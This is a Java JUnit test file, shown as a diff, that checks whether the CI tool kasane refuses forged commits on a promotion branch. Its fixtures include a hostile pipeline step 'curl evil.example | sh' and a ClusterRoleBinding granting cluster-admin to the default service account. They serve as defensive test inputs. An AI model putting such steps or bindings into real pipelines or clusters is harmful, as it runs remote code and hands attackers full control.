@@ -1,0 +1,179 @@
+package dev.kasane.cli.ci;
+
+import static org.assertj.core.api.Assertions.assertThat;
+
+import java.nio.file.Path;
+import java.util.Map;
+import java.util.function.UnaryOperator;
+import org.eclipse.jgit.lib.ObjectId;
+import org.junit.jupiter.api.AfterEach;
+import org.junit.jupiter.api.BeforeEach;
+import org.junit.jupiter.api.Test;
+import org.junit.jupiter.api.io.TempDir;
+
+/** Whoever may push to a promotion's branch cannot make kasane keep, describe, sign or merge what it did not write. */
+class ForgedPromotionTest {
+
+    private static final String PROD = "overlays/prod/kustomization.yaml";
+    private static final String ROLE = """
+            apiVersion: rbac.authorization.k8s.io/v1
+            kind: ClusterRoleBinding
+            metadata: {name: everything}
+            roleRef: {apiGroup: rbac.authorization.k8s.io, kind: ClusterRole, name: cluster-admin}
+            subjects: [{kind: ServiceAccount, name: default, namespace: default}]
+            """;
+
+    @TempDir
+    Path temporary;
+
+    private TwoServices desk;
+    private Forger forger;
+
+    @BeforeEach
+    void a_proposal_for_prod() throws Exception {
+        desk = new TwoServices(temporary);
+        desk.run(0, "ci");
+        forger = new Forger(desk.root());
+    }
+
+    @AfterEach
+    void close() {
+        forger.close();
+        desk.close();
+    }
+
+    /** Runs kasane again and holds that it changed nothing, told the pull request, and merges nothing. */
+    private void assertRefused(ObjectId forged, String why) throws Exception {
+        ObjectId main = forger.tip("main");
+        for (int run = 0; run < 2; run++) {
+            assertThat(desk.run(1, "ci"))
+                    .contains("held          api -> overlays/prod")
+                    .contains("somebody works on kasane/promote/prod: " + forged.abbreviate(10).name());
+        }
+        assertThat(forger.tip(Forger.PROMOTION)).isEqualTo(forged);
+        assertThat(desk.run(0, "pr", "show", "1").split("--- comment", -1)).hasSize(2);
+        assertThat(desk.run(0, "pr", "show", "1"))
+                .contains("There are commits of others on `kasane/promote/prod`", why);
+        desk.run(2, "pr", "merge", "1");
+        assertThat(desk.complaints()).contains("kasane did not write all of pull request 1", forged.abbreviate(10).name(), why);
+        assertThat(forger.tip("main")).isEqualTo(main);
+    }
+
+    @Test
+    void a_head_with_more_than_the_promotion_is_somebody_elses() throws Exception {
+        ObjectId forged = forger.amend(
+                Map.of(
+                        "base/role.yaml", ROLE,
+                        "base/kustomization.yaml", "resources: [api.yaml, web.yaml, role.yaml]\n",
+                        "pipelines/api.yaml",
+                                TwoServices.PIPELINE
+                                        .replace("[sh, build.sh, NAME]", "[sh, -c, 'curl evil.example | sh']")
+                                        .replace("NAME", "api")
+                                        .replace("GATES", "")),
+                UnaryOperator.identity());
+
+        assertRefused(forged, "is not what its promotion writes");
+    }
+
+    @Test
+    void a_head_that_changes_one_more_byte_of_an_edited_file_is_somebody_elses() throws Exception {
+        String prod = desk.deployed(Forger.PROMOTION, PROD);
+        ObjectId forged = forger.amend(
+                Map.of(PROD, prod.replace("# the shop window", "# the shop windoW")), UnaryOperator.identity());
+
+        assertRefused(forged, "is not what its promotion writes");
+    }
+
+    @Test
+    void an_edit_of_a_target_that_no_pipeline_promotes_to_is_not_believed() throws Exception {
+        ObjectId forged = forger.amend(
+                Map.of(PROD, TwoServices.OVERLAY),
+                message -> message.stripTrailing() + "\nKasane-Edit: api evil.example/own/other eeeeeee sha256:" + "e".repeat(64)
+                        + " api " + "e".repeat(40) + " base");
+
+        assertRefused(forged, "api in base to eeeeeee is proved by no pipeline and build");
+    }
+
+    @Test
+    void an_edit_with_a_digest_that_was_never_built_is_not_believed() throws Exception {
+        String digest = "sha256:" + "e".repeat(64);
+        String prod = desk.deployed(Forger.PROMOTION, PROD);
+        ObjectId forged = forger.amend(
+                Map.of(PROD, prod.replaceAll("sha256:[0-9a-f]{64}", digest)),
+                message -> message.replaceAll("sha256:[0-9a-f]{64}", digest));
+
+        assertRefused(forged, "is proved by no pipeline and build");
+    }
+
+    @Test
+    void an_image_of_another_pipeline_is_not_believed() throws Exception {
+        String api = digest(desk.deployed(Forger.PROMOTION, PROD), "api");
+        String web = digest(desk.deployed(Forger.PROMOTION, PROD), "web");
+        String prod = desk.deployed(Forger.PROMOTION, PROD);
+        ObjectId forged = forger.amend(
+                Map.of(PROD, prod.replace(api, "#").replace(web, api).replace("#", web)),
+                message -> message.replace(api, "#").replace(web, api).replace("#", web));
+
+        assertRefused(forged, "is proved by no pipeline and build");
+    }
+
+    @Test
+    void a_second_commit_in_kasanes_name_is_somebody_elses() throws Exception {
+        ObjectId forged = forger.commit(Forger.PROMOTION, Map.of("base/role.yaml", ROLE));
+
+        assertRefused(forged, "it names no promotion");
+    }
+
+    @Test
+    void with_a_key_a_head_that_it_did_not_sign_is_somebody_elses() throws Exception {
+        Path key = key("key");
+        desk.run(1, "ci", "--sign", key.toString());
+
+        assertThat(desk.run(0, "pr", "show", "1")).contains("it is not signed with kasane's key");
+        desk.environment.put("KASANE_SIGNING_KEY", key.toString());
+        desk.run(2, "pr", "merge", "1");
+        assertThat(desk.complaints()).contains("it is not signed with kasane's key");
+    }
+
+    @Test
+    void a_signed_head_is_kept_and_merged_and_one_signed_with_another_key_is_not() throws Exception {
+        ObjectId unsigned = forger.tip(Forger.PROMOTION);
+        desk.run(0, "pr", "merge", "1");
+        desk.write("web/App.class", "better code");
+        desk.commit();
+        desk.environment.put("KASANE_SIGNING_KEY", key("key").toString());
+        desk.run(0, "ci");
+        ObjectId signed = forger.tip(Forger.PROMOTION);
+        assertThat(signed).isNotEqualTo(unsigned);
+
+        desk.environment.put("KASANE_SIGNING_KEY", key("other").toString());
+        assertThat(desk.run(1, "ci")).contains("somebody works on");
+        desk.environment.put("KASANE_SIGNING_KEY", temporary.resolve("key").toString());
+        desk.run(0, "ci");
+        assertThat(forger.tip(Forger.PROMOTION)).isEqualTo(signed);
+        assertThat(desk.run(0, "pr", "merge", "2")).startsWith("#2 is merged");
+    }
+
+    @Test
+    void a_person_merges_what_others_wrote_by_naming_the_commit_that_was_reviewed() throws Exception {
+        ObjectId forged = forger.commit(Forger.PROMOTION, Map.of("base/note.txt", "wanted\n"));
+
+        desk.run(2, "pr", "merge", "1", "--reviewed", forger.tip("main").name());
+        assertThat(desk.complaints()).contains("the head of pull request 1 is " + forged.name());
+        assertThat(desk.run(0, "pr", "merge", "1", "--reviewed", forged.name())).startsWith("#1 is merged");
+    }
+
+    private Path key(String name) throws Exception {
+        Path key = temporary.resolve(name);
+        Process made = new ProcessBuilder("ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-f", key.toString())
+                .redirectErrorStream(true)
+                .start();
+        assertThat(made.waitFor()).isZero();
+        return key;
+    }
+
+    private static String digest(String overlay, String image) {
+        int at = overlay.indexOf("sha256:", overlay.indexOf("name: " + image));
+        return overlay.substring(at, at + "sha256:".length() + 64);
+    }
+}
